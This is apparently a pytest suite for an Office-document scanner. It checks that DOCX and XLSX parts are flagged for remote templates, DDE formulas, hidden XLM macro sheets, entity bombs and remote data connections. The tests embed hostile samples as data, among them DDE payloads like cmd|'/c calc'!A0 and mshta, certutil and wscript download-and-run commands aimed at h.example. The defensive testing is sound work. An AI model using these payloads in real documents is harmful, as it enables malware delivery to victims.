from __future__ import annotations

import pytest

from gateway.extract.base import Child, Context, Node, Problem
from gateway.extract.office.markup import ooxml
from gateway.extract.office.markup.flat import OFFICE_XML
from gateway.extract.office.markup.ooxml import OOXML, dde_call
from gateway.model.artifact import Artifact, ArtifactKind
from gateway.model.content import Observation, Table, Text
from gateway.model.deadline import Limits
from tests.builders.archives import codes, content, take_apart
from tests.builders.documents import HARMLESS_MACRO, W, docx, field_runs, package, relations, vba_project
from tests.builders.growth import linear

SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row><c>{}</c></row></sheetData></worksheet>'


def read(data: bytes, name: str = "a.docx") -> list[object]:
    return list(take_apart(OOXML, data, name))


def workbook(more: dict[str, str | bytes], links: tuple = (), names: str = "", sheets: str = '<sheet name="S" sheetId="1" r:id="rId1"/>') -> bytes:
    return package({
        "[Content_Types].xml": "<Types/>", "_rels/.rels": relations(("officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": f'<workbook xmlns:r="r"><sheets>{sheets}</sheets><definedNames>{names}</definedNames></workbook>',
        "xl/_rels/workbook.xml.rels": relations(*links), **more})


def test_plain_document_gives_its_text_and_nothing_else() -> None:
    assert read(docx("<w:p><w:r><w:t>客戶您好</w:t></w:r></w:p>")) == [Text("客戶您好", "body")]


@pytest.mark.parametrize(("kind", "target", "code"), [
    ("attachedTemplate", "http://h.example/t.dotm", "DOC-REMOTE-TEMPLATE"), ("oleObject", "mhtml:http://h.example/x!x", "DOC-REMOTE-OLE"),
    ("frame", "http://h.example/f.htm", "DOC-REMOTE-FRAME"), ("subDocument", "\\\\h.example\\a.docx", "DOC-REMOTE-SUBDOCUMENT"),
    ("attachedToolbars", "http://h.example/t.bin", "DOC-REMOTE-TOOLBAR"), ("image", "file://h.example/a.png", "DOC-EXTERNAL-SHARE"),
    ("hyperlink", "search-ms:query=a&amp;crumb=location:h", "DOC-LINK-SCHEME"),
])
def test_external_targets(kind: str, target: str, code: str) -> None:
    assert code in codes(read(docx(links=((kind, target, True),))))
    assert codes(read(docx(links=((kind, "file:///C:/Users/a/Normal.dotm", True),)))) <= {"DOC-LOCAL-OLE"}


def test_relationships_of_any_part_and_in_any_case_of_name() -> None:
    more = {"word/Settings.xml": "<w:settings xmlns:w='w'/>", "word/_RELS/Settings.xml.RELS": relations(("attachedTemplate", "http://h.example/t", True))}
    assert "DOC-REMOTE-TEMPLATE" in codes(read(docx(more=more)))


def test_ordinary_links_and_pictures_pass() -> None:
    found = codes(read(docx(links=(("hyperlink", "https://www.example.com/a", True), ("image", "https://www.example.com/a.png", True)))))
    assert found == {"DOC-LINK", "DOC-EXTERNAL-MEDIA"}


def test_macro_under_any_part_name_becomes_a_child() -> None:
    data = vba_project({"M": HARMLESS_MACRO})
    assert content(read(docx(more={"word/media/picture.dat": data})))["picture.dat"] == data


def test_embedded_chunks_go_on_even_as_html() -> None:
    data = docx(more={"word/afchunk.htm": "<html><script>x</script></html>"}, links=(("aFChunk", "afchunk.htm"),))
    assert content(read(data))["afchunk.htm"].startswith(b"<html>")


def test_dde_fields_and_their_look_alikes() -> None:
    assert "DOC-DDE" in codes(read(docx(field_runs("DDE", "AUTO cmd x"))))
    assert codes(read(docx(field_runs("PAGE") + "<w:p><w:r><w:t>DDEAUTO cmd.exe</w:t></w:r></w:p>"))) == set()


def test_dtd_is_refused_and_told() -> None:
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><w:document xmlns:w="w"><w:p>&b;</w:p></w:document>'
    assert "MALFORMED" in codes(read(docx(more={"word/other.xml": bomb})))


def test_bomb_part_is_told() -> None:
    assert "RATIO" in codes(read(docx(more={"word/media/x.bin": bytes(40 << 20)})))


@pytest.mark.parametrize("formula", ["cmd|'/c rem'!A0", "cmd|&apos;/c rem&apos;!A0", "1+cmd|&#39;/c rem&#39;!A0", "MSEXCEL|'\\..\\cmd.exe'!''"])
def test_dde_formulas(formula: str) -> None:
    assert "DOC-DDE" in codes(read(workbook({"xl/worksheets/sheet1.xml": SHEET.format(f"<f>{formula}</f>")}), "a.xlsx"))


@pytest.mark.parametrize("formula", ["SUM(A1:A3)", 'A1&"|"&B1', 'IF(A1="x|y",Sheet1!A1,"cmd|x!y")', "Sheet1!A1&amp;B2"])
def test_ordinary_formulas(formula: str) -> None:
    assert codes(read(workbook({"xl/worksheets/sheet1.xml": SHEET.format(f"<f>{formula}</f>")}), "a.xlsx")) == set()


def test_macro_sheets_hidden_states_and_auto_names() -> None:
    data = workbook({"xl/macrosheets/sheet1.xml": '<xm:macrosheet xmlns:xm="m"><c><f>EXEC("cmd")</f></c></xm:macrosheet>'},
                    (("xlMacrosheet", "macrosheets/sheet1.xml"),), '<definedName name="_xlnm.Auto_Open">M!A1</definedName>',
                    '<sheet name="M" sheetId="1" state="veryHidden" r:id="rId1"/>')
    found = read(data, "a.xlsm")
    assert {"XLM-SHEET", "XLM-AUTO-NAME", "XLM-CALL"} <= codes(found)
    assert Observation("XLM-SHEET", "M (veryHidden)") in found


def test_dde_link_and_web_query_and_vsto_and_controls() -> None:
    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c x"/></externalLink>'
    query = '<connections><connection><webPr url="http://h.example/q"/></connection></connections>'
    assert "DOC-DDE" in codes(read(workbook({"xl/externalLinks/l1.xml": link}), "a.xlsx"))
    assert "DOC-REMOTE-QUERY" in codes(read(workbook({"xl/connections.xml": query}), "a.xlsx"))
    vsto = '<Properties><property name="_AssemblyLocation"><lpwstr>http://h.example/x.vsto</lpwstr></property></Properties>'
    assert "DOC-VSTO" in codes(read(docx(more={"docProps/custom.xml": vsto})))
    assert "DOC-ACTIVEX" in codes(read(docx(more={"word/activeX/a.xml": '<ocx classid="{D27CDB6E-AE6D-11CF-96B8-444553540000}"/>'})))
    assert "DOC-FORM-CONTROL" in codes(read(docx(more={"word/activeX/a.xml": '<ocx classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>'})))


def test_utf16_parts_are_read() -> None:
    rels = relations(("attachedTemplate", "http://h.example/t", True)).replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
    assert "DOC-REMOTE-TEMPLATE" in codes(read(docx(more={"word/_rels/settings.xml.rels": rels.encode("utf-16")})))


def test_tables_comments_and_properties_are_text() -> None:
    body = "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>姓名</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>電話</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
    more = {"word/comments.xml": "<w:comments xmlns:w='w'><w:comment><w:p><w:r><w:t>註</w:t></w:r></w:p></w:comment></w:comments>",
            "docProps/custom.xml": "<Properties><property name='Label'><lpwstr>機密</lpwstr></property></Properties>"}
    found = read(docx(body, more))
    assert Table("body table 1", (("姓名", "電話"),)) in found
    assert Text("註", "comments") in found and Text("Label =\n機密", "property") in found


def test_parts_in_the_wrong_order_of_size_do_not_hide_small_ones() -> None:
    found = read(docx(more={"a/first.bin": bytes(40 << 20)}, links=(("attachedTemplate", "http://h.example/t", True),)))
    assert "DOC-REMOTE-TEMPLATE" in codes(found) and any(isinstance(p, Problem) for p in found)
    assert not any(isinstance(c, Child) and len(c.data) > 10 << 20 for c in found)


def test_dde_call_sees_strings_through() -> None:
    assert dde_call("cmd|'/c x'!A0") and not dde_call('A1&"a|b!c"')


@pytest.mark.parametrize(("relation", "seen"), [("styles", False), ("officeDocument", True), ("header", True)])
def test_styles_are_read_only_where_something_else_uses_them(relation: str, seen: bool) -> None:
    """Nothing in a part of styles is shown or acts, unless it stands for another part too."""
    part = '<w:styles xmlns:w="w"><w:p><w:r><w:t>hidden</w:t></w:r></w:p></w:styles>'
    found = read(docx(more={"word/styles.xml": part}, links=(("styles", "styles.xml"), (relation, "styles.xml"))))
    assert any(isinstance(i, Text) and "hidden" in i.content for i in found) is seen


def test_styles_that_nobody_names_are_read() -> None:
    part = '<w:styles xmlns:w="w"><w:fldSimple w:instr="DDEAUTO c:\\x &quot;a&quot;"/></w:styles>'
    assert "DOC-DDE" in codes(read(docx(more={"word/styles.xml": part})))


def test_more_references_than_any_sheet_has(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ooxml, "RELATIONS", 10)
    monkeypatch.setattr(ooxml, "MOST", ((b"mergeCell ", 10, b"g"),))
    links = tuple(("hyperlink", f"http://h.example/{n}", True) for n in range(12))
    assert "COUNT" in codes(read(docx(links=links))) and "COUNT" not in codes(read(docx(links=links[:9])))
    for number, held in ((11, True), (10, False)):
        sheet = SHEET.format("") .replace("</worksheet>", "<mergeCells count='1'>" + "<mergeCell ref='A1:B1'/>" * number + "</mergeCells></worksheet>")
        assert ("COUNT" in codes(read(workbook({"xl/worksheets/sheet1.xml": sheet}), "a.xlsx"))) == held
        among = SHEET.format("<mergeCell ref='A1:B1'/>" * number)
        assert ("COUNT" in codes(read(workbook({"xl/worksheets/sheet1.xml": among}), "a.xlsx"))) == held


@pytest.mark.parametrize("relation", ["package", "oleObject"])
def test_embedded_documents_that_are_xml_go_on_as_files(relation: str) -> None:
    flat = b'<?xml version="1.0"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"/>'
    found = take_apart(OOXML, docx(more={"word/embeddings/a.xml": flat}, links=((relation, "embeddings/a.xml"),)), "a.docx")
    assert any(isinstance(c, Child) and c.data == flat for c in found)


@pytest.mark.parametrize(("part", "markup"), [
    ("xl/workbook.xml", "<workbook><definedNames><definedName name='x'>{}</definedName></definedNames></workbook>"),
    ("xl/charts/chart1.xml", "<c:chartSpace xmlns:c='c'><c:f>{}</c:f></c:chartSpace>"),
    ("xl/tables/table1.xml", "<table><calculatedColumnFormula>{}</calculatedColumnFormula></table>"),
])
def test_calls_beside_the_cells(part: str, markup: str) -> None:
    assert "DOC-DDE" in codes(take_apart(OOXML, docx(more={part: markup.format("cmd|'/c x'!A0")}), "a.xlsx"))
    assert codes(take_apart(OOXML, docx(more={part: markup.format("Sheet1!$A$1")}), "a.xlsx")) == set()


@pytest.mark.parametrize(("source", "held"), [("file://h.example/s/a.csv", True), ("\\\\h.example\\a.csv", True), ("\\\\h\\a.csv", False), ("C:\\data\\a.csv", False)])
def test_text_queries(source: str, held: bool) -> None:
    part = f'<connections><connection id="1"><textPr sourceFile="{source}"/></connection></connections>'
    assert ("DOC-REMOTE-QUERY" in codes(take_apart(OOXML, docx(more={"xl/connections.xml": part}), "a.xlsx"))) == held


@pytest.mark.parametrize(("attributes", "held"), [
    ('odcFile="http://h.example/a.odc" refreshOnLoad="1"', True), ('odcFile="\\\\h.example\\s\\a.odc"', True), ('odcFile="http://h.example/a.odc"', False),
    ('odcFile="C:\\Users\\a\\a.odc" refreshOnLoad="1"', False), ('odcFile="https://x.sharepoint.com/a.odc" refreshOnLoad="1"', False),
])
def test_connections_that_are_kept_elsewhere(attributes: str, held: bool) -> None:
    part = f'<connections xmlns="m"><connection id="1" type="5" {attributes}><dbPr connection="x"/></connection></connections>'
    assert ("DOC-REMOTE-DATASOURCE" in codes(read(workbook({"xl/connections.xml": part}), "a.xlsx"))) == held


def test_a_service_in_quotation_marks_is_one() -> None:
    assert dde_call("'cmd'|'/C x'!'A1'") and dde_call("cmd|/c a b!A0") and not dde_call("'a'&'b'") and not dde_call('"|"&A1')


@pytest.mark.parametrize("piece", ["a'", "a", "a|", "'a|'", "a|'"])
def test_long_formulas_are_looked_at_once(piece: str) -> None:
    assert linear(dde_call, lambda size: piece * size + "|", 50_000)


@pytest.mark.parametrize(("text", "call"), [
    ("'Q1|Q2'!B2", False), ("'[a.xls]Q1|Q2'!B2", False), ("'Q1|Q2'!B2+cmd|'/c x'!A0", True), ("cmd|'x'!A0", True), ("cmd|  'x'!A0", True),
    ("'cmd|/c x'!A0", True),
])
def test_bars_in_names_of_sheets(text: str, call: bool) -> None:
    assert dde_call(text) == call


@pytest.mark.parametrize(("name", "claimed"), [("a.cab", False), ("a.docx", True)])
def test_a_document_in_blocks_is_its_unpackers(name: str, claimed: bool) -> None:
    node = Node(Artifact(0, None, ArtifactKind.PART, (name,)), b"MSCF" + bytes(60) + docx(), "application/vnd.ms-cab-compressed")
    assert OOXML.claims(node) == claimed


def test_what_macos_keeps_beside_each_part_is_no_part() -> None:
    double = b"\0\x05\x16\x07\0\2\0\0Mac OS X        \0\0"
    found = read(workbook({"__MACOSX/_rels/._.rels": double, "__MACOSX/._[Content_Types].xml": double}), "a.xlsx")
    assert not [y for y in found if isinstance(y, Problem)]
    assert [y.names for y in found if isinstance(y, Child) and y.data == double] == [("._.rels",), ("._[Content_Types].xml",)]


@pytest.mark.parametrize(("inner", "held"), [
    ('<x15:oledbPr connection="Provider=ACE;Data Source=\\\\h.example\\s\\a.accdb"/>', True),
    ('<x15:dataFeedPr connection="Data Source=http://h.example/feed.svc"/>', True), ('<x15:oledbPr connection="Data Source=erpdb01"/>', False),
])
def test_connections_of_the_data_model(inner: str, held: bool) -> None:
    part = f'<connections xmlns:x15="x"><connection id="1"><extLst><ext><x15:connection>{inner}</x15:connection></ext></extLst></connection></connections>'
    assert ("DOC-REMOTE-DATASOURCE" in codes(read(workbook({"xl/connections.xml": part}), "a.xlsx"))) == held


@pytest.mark.parametrize(("instruction", "held"), [("DDEAUTO cmd x", True), ("PAGE", False)])
def test_text_a_control_is_bound_to(instruction: str, held: bool) -> None:
    flat = (f'<?xml version="1.0"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part pkg:name="/word/document.xml"><pkg:xmlData>'
            f'<w:document {W}><w:body><w:p><w:fldSimple w:instr="{instruction}"/></w:p></w:body></w:document></pkg:xmlData></pkg:part></pkg:package>')
    part = "<a>" + flat.replace("&", "&amp;").replace("<", "&lt;") + "</a>"
    (child,) = [y for y in take_apart(OOXML, docx(more={"customXml/item1.xml": part}), "a.docx") if isinstance(y, Child) and y.label == "bound text"]
    assert ("DOC-DDE" in codes(take_apart(OFFICE_XML, child.data, kind="application/x-office-xml"))) == held


CAPTION = ('<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape><v:textbox><div><font>Print<br>'
           "\r\n report</font></div></v:textbox><x:ClientData ObjectType=\"Button\">{}</x:ClientData></v:shape></xml>")


@pytest.mark.parametrize(("name", "problem"), [("xl/drawings/vmlDrawing1.vml", False), ("xl/comments1.xml", True)])
def test_captions_as_excel_breaks_them(name: str, problem: bool) -> None:
    found = read(docx(more={name: CAPTION.format("")}))
    assert any(isinstance(item, Problem) for item in found) == problem


def test_broken_captions_hide_nothing() -> None:
    found = read(docx(more={"xl/drawings/vmlDrawing1.vml": CAPTION.format("<x:FmlaPict>cmd|'/c calc'!A0</x:FmlaPict>")}))
    assert "DOC-DDE" in codes(found)
    assert any(isinstance(item, Problem) for item in read(docx(more={"a.vml": CAPTION.format("<b>")})))


@pytest.mark.parametrize(("cell", "outbound", "told"), [
    ("Press Win+R &amp; paste: mshta https://h.example/a", False, True), ("Press Win+R &amp; paste: mshta https://h.example/a", True, False),
    ("Sum of the quarter", False, False)])
def test_cells_that_speak_of_commands(cell: str, outbound: bool, told: bool) -> None:
    strings = f'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>{cell}</t></si></sst>'
    data = docx(more={"xl/sharedStrings.xml": strings}, links=(("sharedStrings", "/xl/sharedStrings.xml"),))
    node = Node(Artifact(0, None, ArtifactKind.PART, ("a.xlsx",)), data, "application/vnd.openxmlformats")
    found = list(OOXML.extract(node, Context(Limits(), outbound=outbound)))
    assert [t.content.strip() for t in found if isinstance(t, Text) and t.source == "cells"] == (["Press Win+R & paste: mshta https://h.example/a"] if told else [])


@pytest.mark.parametrize(("command", "read"), [
    (r"wscript \\h.example\s\a.js", True), ("certutil -urlcache -f http://h.example/a a.exe", True), ("the script is ready", False),
])
@pytest.mark.parametrize("part", ["xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"])
def test_cells_that_speak_of_commands_are_words(command: str, read: bool, part: str) -> None:
    sheet = '<worksheet xmlns="{0}"><sheetData><row><c t="inlineStr"><is><t>{1}</t></is></c></row></sheetData></worksheet>'
    shape = '<sst xmlns="{0}"><si><t>{1}</t></si></sst>' if "shared" in part else sheet
    found = take_apart(OOXML, docx(more={part: shape.format("http://schemas.openxmlformats.org/spreadsheetml/2006/main", command)}), "a.xlsx")
    assert any(isinstance(item, Text) and item.source == "cells" and command in item.content for item in found) == read
